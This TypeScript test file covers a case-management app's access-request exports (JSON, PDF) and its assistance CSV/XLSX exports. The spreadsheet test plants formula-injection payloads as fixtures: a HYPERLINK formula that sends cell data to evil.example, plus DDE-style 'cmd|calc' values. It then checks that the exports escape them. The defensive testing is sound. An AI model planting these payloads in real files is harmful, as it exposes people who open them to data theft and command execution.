// The access-request export (JSON, PDF) holds what the exporter may read and names what it leaves out; only the owner
// with the identity grant exports; every export is audited. The team's assistance CSV defuses hostile cells.
import { execFileSync } from 'node:child_process';
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { createOrganisation } from '#tests/factories.ts';
import type { TestApp } from '#tests/test-app.ts';
import { addToTeam, call, openCase, useCaseWorld, type CaseWorld } from './cases.fixtures.ts';
import { insertAssistance, insertComment, insertPlan, PNG, upload } from './case-protection.fixtures.ts';

let t: TestApp;
let w: CaseWorld;
useCaseWorld((app, world) => {
  [t, w] = [app, world];
});

async function plantedCase() {
  const c = await openCase(t, w.ngo.owner);
  await call(t, w.ngo.owner, 'PUT', `/api/cases/${c.id}/identity`, { version: 0, givenName: 'Ștefania', familyName: 'Exportescu', birthDate: '2001-05-06' });
  await insertAssistance(t, c.id, { type: 'medical_counselling', category: 'health', note: 'health note ț' });
  await insertAssistance(t, c.id, { type: 'psychological', category: 'psychological', note: 'psych note' });
  await insertComment(t, c.id, 'legal', 'legal comment');
  await insertPlan(t, c.id, 'social', 'find housing');
  await upload(t, w.ngo.owner, c.id, 'health', 'clinic.png', PNG);
  return c;
}

describe('the access-request export', () => {
  test('JSON: everything the owner may read, named by the case code only, audited with format and categories', async () => {
    const c = await plantedCase();
    const res = await call(t, w.ngo.owner, 'GET', `/api/cases/${c.id}/export.json`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${c.code}.json"`);
    const data = res.json();
    expect(data).toMatchObject({ format: 'pro-health-case-export/1', categoriesOmitted: [], case: { code: c.code } });
    expect(data.identity).toMatchObject({ givenName: 'Ștefania', familyName: 'Exportescu', birthDate: '2001-05-06' });
    expect(data.assistance.map((a: { note: string }) => a.note).sort()).toEqual(['health note ț', 'psych note']);
    expect(data.comments).toEqual([expect.objectContaining({ category: 'legal', body: 'legal comment' })]);
    expect(data.plans[0]).toMatchObject({ objectives: 'find housing', goals: [{ text: 'find housing', done: false }], reviews: [expect.objectContaining({ note: 'find housing review' })] });
    expect(data.attachments).toEqual([expect.objectContaining({ fileName: 'clinic.png', mediaType: 'image/png', byteSize: PNG.length })]);
    const audit = await t.deps.db.selectFrom('auditEvent').select('details').where('action', '=', 'case.exported').where('entityId', '=', c.id).execute();
    expect(audit.map((a) => a.details)).toEqual([{ format: 'json', categories: ['general', 'identity', 'health', 'psychological', 'legal', 'social'], omitted: [] }]);
    const identityReads = await t.deps.db.selectFrom('auditEvent').select('details').where('action', '=', 'case.read').where('entityId', '=', c.id).execute();
    expect(identityReads.filter((r) => (r.details as { category: string; part?: string }).category === 'identity' && (r.details as { part?: string }).part === 'export')).toHaveLength(1);
  });

  test('leaves out the categories outside the exporter\'s grant, and says so', async () => {
    const c = await plantedCase();
    // NOTE: the team service keeps every grant on the owner; the export must still follow the grant it loads, so the
    // grant is narrowed in the table directly.
    await t.deps.db.updateTable('caseMember').set({ grants: JSON.stringify(['general', 'identity', 'health']) }).where('caseId', '=', c.id).where('accountId', '=', w.ngo.owner.id).execute();
    const data = (await call(t, w.ngo.owner, 'GET', `/api/cases/${c.id}/export.json`)).json();
    expect(data.categoriesOmitted).toEqual(['psychological', 'legal', 'social']);
    expect(data.assistance.map((a: { category: string }) => a.category)).toEqual(['health']);
    expect(data.comments).toEqual([]);
    expect(data.plans).toEqual([]);
  });

  test('is for the owner holding the identity grant: team members, coordinators and other organisations get 404', async () => {
    const c = await plantedCase();
    await addToTeam(t, w.ngo.owner, c.id, w.ngo.colleague, ['general', 'identity', 'health']);
    for (const who of [w.ngo.colleague, w.ngo.coordinator, w.ngo.psychologist, w.other.caseManager]) {
      expect((await call(t, who, 'GET', `/api/cases/${c.id}/export.json`)).statusCode).toBe(404);
      expect((await call(t, who, 'GET', `/api/cases/${c.id}/export.pdf`)).statusCode).toBe(404);
    }
  });

  test('PDF: in the language asked for, readable as text, named by the code', async () => {
    const c = await plantedCase();
    const res = await call(t, w.ngo.owner, 'GET', `/api/cases/${c.id}/export.pdf?lang=ro`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${c.code}.pdf"`);
    const text = execFileSync('pdftotext', ['-', '-'], { input: res.rawPayload }).toString('utf8');
    expect(text).toContain('Tot ce deținem despre dumneavoastră');
    expect(text.replace(/\s+/g, ' ')).toContain('Nume de familie: Exportescu');
    expect(text).toContain('Documente atașate');
    expect((await call(t, w.ngo.owner, 'GET', `/api/cases/${c.id}/export.pdf?lang=xx`)).statusCode).toBe(400);
  });
});

describe('the assistance spreadsheet', () => {
  test('holds the categories of the reader, without notes, and defuses hostile cells', async () => {
    const c = await openCase(t, w.ngo.owner);
    const hostile = await createOrganisation(t.deps.db, { name: '=HYPERLINK("http://evil.example/?"&A1,"x")' });
    await insertAssistance(t, c.id, { type: 'medical_counselling', category: 'health', note: 'secret note', providerRole: '@SUM(1+1)*cmd|calc', providerOrganisationId: hostile.id });
    await insertAssistance(t, c.id, { type: 'psychological', category: 'psychological', providerRole: '+1+cmd' });
    await addToTeam(t, w.ngo.owner, c.id, w.ngo.clinician, ['health']);
    const res = await call(t, w.ngo.clinician, 'GET', `/api/cases/${c.id}/assistance.csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${c.code}-assistance.csv"`);
    const lines = res.body.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(lines[1]).toContain(`'@SUM(1+1)*cmd|calc`);
    expect(res.body).not.toContain('secret note');
    expect(res.body).not.toContain('psychological');
    expect((await call(t, w.other.caseManager, 'GET', `/api/cases/${c.id}/assistance.csv`)).statusCode).toBe(404);

    // The same rows as an XLSX workbook: read back with exceljs, the hostile cells are text with an apostrophe.
    const xlsx = await call(t, w.ngo.clinician, 'GET', `/api/cases/${c.id}/assistance.xlsx`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="${c.code}-assistance.xlsx"`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(2);
    const values = (sheet.getRow(2).values as unknown[]).filter((v) => v !== undefined && v !== null);
    expect(values).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(values).toContain(`'@SUM(1+1)*cmd|calc`);
    expect(values.some((v) => typeof v === 'object')).toBe(false); // no formula cell
    expect((await call(t, w.other.caseManager, 'GET', `/api/cases/${c.id}/assistance.xlsx`)).statusCode).toBe(404);
  });
});
